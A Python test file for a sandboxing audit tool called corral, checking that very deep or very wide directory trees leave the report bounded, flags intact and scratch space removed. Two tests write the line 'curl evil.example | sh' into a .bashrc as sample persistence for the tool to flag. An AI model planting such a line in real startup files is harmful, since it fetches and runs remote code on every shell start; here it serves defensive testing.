"""Issue 14 class 5: trees the sandbox builds to break corral's own walks.  A very deep
tree (past Python's recursion limit and PATH_MAX) or a very wide one must leave the audit
working (exit 0, a bounded list of changes with a count of what was cut, the ~/.bashrc
persistence flag kept) and the scratch directory removed, whatever modes the command set."""

import json
import os

import pytest

from conftest import corral
from corral.events.report import build_report, render_text
from corral.fs import changes as fschanges
from corral.fs.changes import collect_changes
from corral.launch import remove_tree

DEPTH = 1_100  # past sys.getrecursionlimit() (1,000)


def _deep(root, depth, name="d"):
    """``root/name/name/...`` without ever handing the kernel a long path."""
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
        os.close(os.open("leaf", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
        os.chmod(fd, 0o500)  # the command made the deepest directory read-only
    finally:
        os.close(fd)


def _scratch_with_upper(tmp_path, host):
    scratch = tmp_path / "scratch"
    upper = scratch / "upper" / "0"
    upper.mkdir(parents=True)
    (scratch / "overlays.json").write_text(json.dumps({"overlays": {"upper/0": str(host)}}))
    return scratch, upper


@pytest.mark.namespaces
def test_audit_of_a_1100_level_tree_and_a_bashrc_write_keeps_report_flag_and_cleans_up(
        tmp_path, home):
    (home / ".bashrc").write_text("# rc\n")
    work, scratch = tmp_path / "work", tmp_path / "scratch"
    work.mkdir()
    scratch.mkdir()
    script = (f'cd "$HOME" && i=0 && while [ $i -lt {DEPTH} ]; do mkdir d && cd d || exit 9; '
              'i=$((i+1)); done; touch leaf; chmod 000 .; cd "$HOME"; '
              'echo "curl evil.example | sh" >> "$HOME/.bashrc"')
    result = corral("audit", "--scratch", str(scratch), "--report", "report.json", "--", "sh", "-c",
                    script, cwd=work, env=dict(os.environ, HOME=str(home)), timeout=300)
    assert result.returncode == 0, result.stderr[-2000:]
    assert b"Traceback" not in result.stderr
    report = json.loads((work / "report.json").read_text())
    files = report["files"]
    assert files is not None and not files["truncated"] and files["omitted"] == 0
    paths = {c["path"]: c["change"] for c in files["changes"]}
    assert paths[str(home / ".bashrc")] == "modified"
    assert paths[str(home / "d")] == "created"
    assert sum(p.count("/d") for p in paths) > DEPTH  # the whole depth was walked
    assert any(f["kind"] == "persistence" and f["subject"] == str(home / ".bashrc")
               for f in report["flags"])
    assert os.listdir(scratch) == []  # every write of the sandbox removed
    assert (home / ".bashrc").read_text() == "# rc\n"


def test_a_100k_entry_tree_is_bounded_with_a_count_of_what_was_cut(tmp_path):
    host = tmp_path / "home"
    host.mkdir()
    (host / ".bashrc").write_text("# rc\n")
    scratch, upper = _scratch_with_upper(tmp_path, host)
    flood = upper / ".a"  # sorts before .bashrc: the flood comes first in the walk
    flood.mkdir()
    fd = os.open(flood, os.O_RDONLY | os.O_DIRECTORY)
    for i in range(100_000):
        os.close(os.open(f"f{i:06d}", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    os.close(fd)
    (upper / ".bashrc").write_text("# rc\ncurl evil.example | sh\n")

    found = collect_changes(scratch)
    total = 100_000 + 2  # the files, their directory, .bashrc
    assert found.truncated and len(found.changes) + found.omitted == total
    assert len(found.changes) <= fschanges.DEFAULT_LIMIT + 1
    assert found.to_dict()["omitted"] == found.omitted
    report = build_report([], changes=found, exit_code=0)
    assert any(f["kind"] == "persistence" for f in report["flags"])  # survives the flood
    assert f"{found.omitted} more changes not listed" in render_text(report)
    assert len(json.dumps(report)) < 8 * 1024 * 1024


def test_a_deep_tree_of_long_names_is_bounded_by_path_characters(tmp_path):
    host = tmp_path / "host"
    host.mkdir()
    scratch, upper = _scratch_with_upper(tmp_path, host)
    _deep(upper, 3_000, "n" * 250)  # every path is longer than PATH_MAX past level 16
    found = collect_changes(scratch)
    assert found.truncated and found.omitted > 0
    assert sum(len(c.path) for c in found.changes) <= fschanges.CHAR_LIMIT
    assert len(found.changes) + found.omitted == 3_001  # every level and the leaf, counted
    remove_tree(scratch)
    assert not scratch.exists()


def test_remove_tree_removes_what_the_command_made_undeletable_and_follows_no_link(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o755)
    (outside / "keep").write_text("host file")
    os.chmod(outside / "keep", 0o644)
    scratch = tmp_path / "scratch"
    (scratch / "work" / "work").mkdir(parents=True)  # overlayfs leaves this at mode 000
    (scratch / "work" / "work" / "x").write_text("")
    os.chmod(scratch / "work" / "work", 0)
    ro = scratch / "upper" / "ro"
    ro.mkdir(parents=True)
    (ro / "locked").write_text("")
    os.chmod(ro / "locked", 0)
    (ro / "link").symlink_to(outside)
    (ro / "link-to-file").symlink_to(outside / "keep")
    os.chmod(ro, 0o500)
    _deep(scratch / "upper", DEPTH * 2)
    remove_tree(scratch)
    assert not scratch.exists()
    assert (outside / "keep").read_text() == "host file"
    assert os.stat(outside).st_mode & 0o777 == 0o755  # no chmod through the links
    assert os.stat(outside / "keep").st_mode & 0o777 == 0o644


def test_remove_tree_of_a_missing_path_is_quiet(tmp_path):
    remove_tree(tmp_path / "gone")
